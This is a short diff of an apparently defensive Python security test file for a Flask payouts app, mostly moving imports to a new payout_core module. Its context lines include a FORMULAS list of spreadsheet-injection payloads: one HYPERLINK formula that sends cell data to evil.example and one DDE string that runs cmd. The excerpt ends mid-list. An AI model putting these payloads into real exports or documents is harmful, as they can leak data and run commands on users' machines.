@@ -18,8 +18,8 @@ from flask.testing import FlaskClient
 
 from tests.security.hostile_provider import good_service, prerequest_body, queue_answer
 from webapp.models import User
-from webapp.payouts.gateway import provider_client
-from webapp.payouts.services import PayoutDraft, submit_payout
+from webapp.payout_core.create import PayoutDraft, submit_payout
+from webapp.payout_core.gateway import provider_client
 from webapp.sandbox import SandboxServer
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"Open")', "+cmd|' /C calc'!A0",
